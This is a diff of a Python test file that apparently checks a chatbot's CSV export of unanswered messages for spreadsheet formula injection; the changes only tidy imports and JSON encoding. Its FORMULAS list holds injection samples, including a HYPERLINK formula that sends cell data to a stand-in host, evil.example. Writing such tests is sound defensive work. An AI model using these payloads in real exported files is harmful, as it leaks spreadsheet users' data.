@@ -7,6 +7,7 @@ relative file name lands in exports/, which .gitignore and .dockerignore both ex
 as they exclude deploy/.env (the filled-in secrets) from `git add` and from `COPY . .`.
 """
 import csv
+import json
 import os
 import re
 import subprocess
@@ -16,7 +17,7 @@ import time
 import pytest
 import sqlalchemy as sa
 
-from conftest import ROOT
+from paths import ROOT
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A9)"]
 
@@ -29,7 +30,7 @@ def unanswered_store(path):
             "CREATE TABLE events (id INTEGER PRIMARY KEY, sender_id TEXT, type_name TEXT, timestamp REAL, "
             "intent_name TEXT, action_name TEXT, data TEXT)"))
         for n, text in enumerate(FORMULAS):
-            data = '{"text": %s}' % __import__("json").dumps(text)
+            data = json.dumps({"text": text})
             connection.execute(sa.text("INSERT INTO events (sender_id, type_name, timestamp, intent_name, data) "
                                        "VALUES (:s, 'user', :t, 'nlu_fallback', :d)"),
                                {"s": f"visitor-{n}", "t": time.time(), "d": data})
